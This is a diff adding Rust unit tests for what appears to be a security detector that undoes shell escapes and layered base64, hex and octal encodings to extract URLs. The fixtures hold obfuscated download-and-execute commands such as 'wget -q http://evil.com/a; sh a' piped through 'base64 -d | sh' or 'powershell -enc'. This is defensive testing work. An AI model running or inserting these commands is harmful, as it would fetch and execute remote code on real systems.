@@ -368,3 +368,123 @@ fn percent(text: &Text<'_>, budget: &mut Budget, look: &mut dyn FnMut(&mut Budge
         from = end.max(at);
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Found, LAYERS_MAX, indicators};
+    use super::*;
+
+    fn unescaped(context: Context, text: &str) -> String {
+        unescape(context, text).map_or(text.to_owned(), |prepared| prepared.plain)
+    }
+
+    #[test]
+    fn escapes_are_undone_and_what_is_none_stays() {
+        use Context::{Command, Other};
+        for (context, text, expected) in [
+            (Other, r"\x41\x62", "Ab"),
+            (Other, r"\x4\xg", "\u{4}\\xg"),
+            (Other, r"\101\0102\1\18\0", "AB\\1\\18\0"),
+            (Other, r"a\nb\rc\td", "a\nb\rc\td"),
+            (Other, r"a\ab\ec", "a\u{b}b\u{b}c"),
+            (Other, r"http:\/\/a\.com", "http://a.com"),
+            (Other, r"\u0041\u00e9\ud800\u00", "Aé\u{fffd}\\u00"),
+            (Other, r"\xc3\xa9", "é"),
+            (Other, r"\xe2\x82\xac\xff\xc3", "€\u{fffd}\u{fffd}"),
+            (Other, r"\303\251", "é"),
+            (Other, r"\\x41", r"\x41"),
+            (Other, "\\", "\\"),
+            (Other, r"C:\Users\q", r"C:\Users\q"),
+            (Other, "a\\\nb", "a\\\nb"),
+            (Command, "a\\\nb", "ab"),
+            (Command, "$'a' $\"b\" $c", "'a' \"b\" $c"),
+            (Command, "a${IFS}b$IFS$9c$IFSd", "a b c d"),
+            (Command, "w'ge't h\"tt\"p c''url d\"\"ig", "wget http curl dig"),
+            (Command, "'a' \"b\" u'c' x='d' don't", "'a' \"b\" u'c' x='d' don't"),
+            (Command, "a'b c'd", "a'b c'd"),
+            (Other, "w'ge't $'a' ${IFS}", "w'ge't $'a' ${IFS}"),
+        ] {
+            assert_eq!(unescaped(context, text), expected, "{text}");
+        }
+    }
+
+    fn urls(context: Context, text: &str) -> Vec<String> {
+        let mut found = Found::default();
+        indicators(context, text, &mut found);
+        found.indicators.into_iter().filter(|there| there.field == crate::events::Field::Url).map(|there| there.value).collect()
+    }
+
+    fn base64(text: &str) -> String {
+        STANDARD.encode(text)
+    }
+
+    #[test]
+    fn what_is_packed_is_unpacked() {
+        use Context::{Chat, Command, Other};
+        let url = "http://evil.com/a";
+        let script = format!("wget -q {url}; sh a");
+        let hex: String = script.bytes().map(|byte| format!("{byte:02x}")).collect();
+        let escaped: String = script.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
+        let octal: String = script.bytes().map(|byte| format!("\\{byte:03o}")).collect();
+        let wide: Vec<u8> = script.bytes().flat_map(|byte| [byte, 0]).collect();
+        let json = format!("{{\"Cmd\":[\"sh\",\"-c\",\"wget {url}\"]}}");
+        for (context, text) in [
+            (Command, format!("echo {} | base64 -d | sh", base64(&script))),
+            (Command, format!("echo \"{}\"|base64 --decode|bash", base64(&script))),
+            (Command, format!("echo {}|base64 -d", base64(&script).trim_end_matches('='))),
+            (Command, format!("x={};echo $x|base64 -d", base64(&script))),
+            (Command, format!("python -c \"exec('{}'.decode('base64'))\"", base64(&script))),
+            (Command, format!("echo {}", URL_SAFE.encode(format!("{script} ???>>>~~~")))),
+            (Command, format!("powershell -enc {}", STANDARD.encode(&wide))),
+            (Command, format!("echo {hex} | xxd -r -p")),
+            (Command, format!("echo -e '{escaped}'")),
+            (Command, format!("printf \"{octal}\"")),
+            (Command, format!("eval $'{escaped}'")),
+            (Command, format!("echo {} | base64 -d", base64(&format!("echo {} | base64 -d", base64(&script))))),
+            (Command, base64(&base64(&base64(&script)))),
+            (Command, base64(&escaped)),
+            (Other, base64(&json)),
+            (Other, format!("'{}'", base64(&json))),
+            (Other, format!("b\"{}\\n\"", base64(&json)).replace("\\n", "")),
+            (Other, base64(&json)[1..].to_owned()),
+            (Other, base64(&json)[3..].to_owned()),
+            (Other, base64(&base64(&json))),
+            (Other, escaped.clone()),
+        ] {
+            assert_eq!(urls(context, &text), [url], "{text}");
+        }
+        // One layer too many; a context in which nobody packs; what only looks packed.
+        for (context, text) in [
+            (Command, base64(&base64(&base64(&base64(&script))))),
+            (Chat, base64(&script)),
+            (Chat, escaped),
+            (Other, format!("see {}", base64(&json))),
+            (Command, "/usr/local/share/perl/Something/Else/AndMore".to_owned()),
+            (Command, "AAAAB3NzaC1yc2EAAAADAQABAAABgQDhttp".to_owned()),
+            (Command, "5d41402abc4b2a76b9719d911017c592".to_owned()),
+        ] {
+            assert_eq!(urls(context, &text), [""; 0], "{text}");
+        }
+        assert_eq!(LAYERS_MAX, 3);
+    }
+
+    #[test]
+    fn what_is_unpacked_is_no_more_than_twice_the_text() {
+        // Every piece holds four shorter ones: without a budget, the pieces of all layers would add up.
+        let mut text = "http://evil.com/a ".repeat(400);
+        for _ in 0..3 {
+            text = format!("{0} {0} {0} {0}", base64(&text));
+        }
+        let mut budget = Budget::of(&text);
+        let mut unpacked = 0;
+        fn count(text: &str, layer: usize, budget: &mut Budget, unpacked: &mut usize) {
+            *unpacked += text.len();
+            if layer < LAYERS_MAX {
+                let whole = Text::plain(Context::Command, text);
+                packed(&whole, &Seen::of(text), budget, &mut |budget, _, inner| count(inner, layer + 1, budget, unpacked));
+            }
+        }
+        count(&text, 0, &mut budget, &mut unpacked);
+        assert!(unpacked > 2 * text.len() && unpacked <= 3 * text.len(), "{unpacked} of {}", text.len());
+    }
+}
